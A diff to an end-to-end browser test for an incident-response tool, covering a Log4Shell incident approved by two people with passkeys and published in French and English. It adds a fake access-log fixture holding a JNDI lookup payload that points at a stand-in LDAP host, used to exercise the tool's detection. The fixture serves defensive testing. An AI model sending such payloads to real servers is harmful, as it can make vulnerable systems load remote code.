@@ -1,6 +1,6 @@
 // A night by two people, each with a virtual authenticator, on a town behind a real built-in edge:
 // opened, proposed by one, approved by the other, dark, relit and told to the public, by keyboard
-// alone. Pictures are taken when SHOTS names a folder.
+// alone, at a desk and at twice the size. Pictures are taken when SHOTS names a folder.
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -8,8 +8,8 @@ import { createServer, request } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createInterface } from 'node:readline';
-import { after, before, test } from 'node:test';
-import { look, person, quit, violations, withBrowser } from './browser.mjs';
+import { after, before, describe, test } from 'node:test';
+import { DESK, TWICE, look, lookHere, person, quit, violations, withBrowser } from './browser.mjs';
 
 const { RELIGHT } = process.env;
 
@@ -78,7 +78,11 @@ function visit(slug) {
   });
 }
 
-before(async () => {
+/** One who tries the payload of a lookup, so that the watch has a campaign to take along. */
+const ATTEMPT = '203.0.113.7 - - [10/Dec/2021:12:00:00 +0000] '
+  + '"GET /?q=${jndi:ldap://x.test/a} HTTP/1.1" 200 12 "-" "-"\n';
+
+async function begin() {
   folder = mkdtempSync(join(tmpdir(), 'relight-acts-'));
   writeFileSync(join(folder, 'sites.csv'), ROWS);
   visitors = createServer((request, answer) => {
@@ -89,6 +93,8 @@ before(async () => {
   const place = `127.0.0.1:${visitors.address().port}`;
   writeFileSync(join(folder, 'routes'), SLUGS.map((slug) => `${slug} ${place}\n`).join(''));
   relight('sites', 'import', 'sites.csv');
+  writeFileSync(join(folder, 'access.log'), ATTEMPT);
+  relight('watch', 'ingest', 'access.log', '--org', 'Town', '--site', 'care');
   edge = `127.0.0.1:${await freePort()}`;
   relight('edge', 'add', 'builtin', '--name', 'hall', '--gate', 'gate', '--verify', 'verify.sock',
     '--listen', edge);
@@ -96,14 +102,16 @@ before(async () => {
   link = await start(['serve', '--listen', FREE, '--public-listen', FREE], 'stderr',
     /(http:\/\/localhost:\d+\/start\?code=\S+)/);
   origin = new URL(link).origin;
-});
+}
 
-after(async () => {
-  for (const child of running) child.kill();
+function end() {
+  for (const child of running.splice(0)) child.kill();
   visitors?.close();
+  broken.clear();
   rmSync(folder, { recursive: true, force: true });
-  await quit();
-});
+}
+
+after(quit);
 
 /** Presses Tab until the focused element fits, as a person would look for it. */
 async function tabTo(page, selector) {
@@ -119,7 +127,8 @@ async function enter(page, address) {
   await Promise.all([page.waitForURL(address), page.keyboard.press('Enter')]);
 }
 
-test('an incident from its opening to the light, by two people and by keyboard alone', async () => {
+/** An incident from its opening to the light; `glance` looks at a page on the way. */
+async function night(options, glance) {
   await withBrowser(async (first) => withBrowser(async (second) => withBrowser(async (third) => {
     const [admin, chief, approver] = [await person(first), await person(second), await person(third)];
     await admin.page.goto(`${link}&lang=en`);
@@ -148,6 +157,7 @@ test('an incident from its opening to the light, by two people and by keyboard a
     await admin.page.waitForSelector('.done');
 
     // The second of them is granted by two people: an administrator cannot invent one.
+    await glance(chief.page, `${origin}/accounts`, 'acts-accounts');
     await chief.page.goto(`${origin}/accounts?lang=en`);
     await chief.page.click('[name=answer][value=confirm]');
     await chief.page.waitForSelector('.done');
@@ -169,14 +179,14 @@ test('an incident from its opening to the light, by two people and by keyboard a
     await page.keyboard.type('Log4Shell');
     await enter(page, '**/plan?*reason=Log4Shell*');
     assert.equal(await page.textContent('.large b'), '3');
-    await look(page, `${origin}/plan?action=dark&which=todo&reason=Log4Shell`, 'acts-plan');
+    await glance(page, `${origin}/plan?action=dark&which=todo&reason=Log4Shell`, 'acts-plan');
     await page.goto(`${origin}/plan?lang=en&action=dark&which=todo&reason=Log4Shell`);
     await tabTo(page, 'button.strong');
     await enter(page, '**/approve/A-0001?*');
     assert.equal(await page.locator('[value=approve]').count(), 0, 'who asks does not agree');
     assert.deepEqual(await Promise.all(SLUGS.map(visit)), [200, 200, 200]);
 
-    await look(page, `${origin}/approve/A-0001`, 'acts-approve-glass');
+    await glance(page, `${origin}/approve/A-0001`, 'acts-approve-glass');
     assert.equal(await page.locator('details.glass').count(), 1, 'the command may break the glass');
 
     // An administrator sees no button, and a stranger nothing.
@@ -185,7 +195,7 @@ test('an incident from its opening to the light, by two people and by keyboard a
     assert.equal((await fetch(`${origin}/api/v1/plans`)).status, 401);
 
     // Approve.
-    await look(approver.page, `${origin}/approve/A-0001`, 'acts-approve');
+    await glance(approver.page, `${origin}/approve/A-0001`, 'acts-approve');
     await approver.page.goto(`${origin}/approve/A-0001?lang=en`);
     await tabTo(approver.page, 'button.strong');
     // The passkey signs the plan before the form goes.
@@ -201,7 +211,10 @@ test('an incident from its opening to the light, by two people and by keyboard a
       await page.waitForTimeout(100);
     }
 
-    await look(page, `${origin}/`, 'acts-incident');
+    await glance(page, `${origin}/`, 'acts-incident');
+    await glance(page, `${origin}/site/care`, 'acts-site');
+    await glance(page, `${origin}/posture?org=Town`, 'acts-posture');
+    await glance(page, `${origin}/watch`, 'acts-watch');
 
     // The lists follow by themselves, and whoever stands on a row stays on it. What is proven clear
     // comes back by itself, but not a site that fails: that is for a person.
@@ -244,9 +257,8 @@ test('an incident from its opening to the light, by two people and by keyboard a
     await page.keyboard.type('Le service de santé est revenu.');
     await tabTo(page, '.drop button');
     await enter(page, '**/incident/preview?lang=en');
-    assert.deepEqual(await violations(page), []);
+    await lookHere(page, 'acts-preview-en');
     assert.equal(await page.locator('.preview [lang=fr]').count(), 2, 'French in both columns');
-    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/preview-en.png` });
     await tabTo(page, 'button.strong');
     await enter(page, '**/?lang=en');
     const status = await page.getAttribute('nav a[href$="/en/"]', 'href');
@@ -257,7 +269,31 @@ test('an incident from its opening to the light, by two people and by keyboard a
     }
     const { items } = await (await fetch(new URL('/fr/feed.json', status))).json();
     assert.equal(items[0].content_text, 'Le service de santé est revenu.');
-    await look(page, `${origin}/plans`, 'acts-plans');
+    await glance(page, `${origin}/plans`, 'acts-plans');
     assert.deepEqual([...chief.faults, ...approver.faults, ...admin.faults], []);
-  })));
-});
+    await refused(page);
+  }, options), options), options);
+}
+
+/** What is refused says why, in both languages: an incident that is not there is not closed. */
+async function refused(page) {
+  for (const lang of ['fr', 'en']) {
+    await page.goto(`${origin}/?lang=${lang}`);
+    await page.locator('form[action^="/incident/close"]').evaluate((form) => {
+      form.querySelector('[name=incident]').value = 'CVE-1900-1';
+      form.requestSubmit();
+    });
+    await page.waitForSelector('main.act a.button');
+    await lookHere(page, `acts-told-${lang}`);
+  }
+}
+
+for (const [name, options] of [['at a desk', DESK], ['at twice the size', TWICE]]) {
+  describe(name, () => {
+    before(begin);
+    after(end);
+    const glance = options === DESK ? look : async () => {};
+    test('an incident from its opening to the light, by two people and by keyboard alone',
+      () => night(options, glance));
+  });
+}
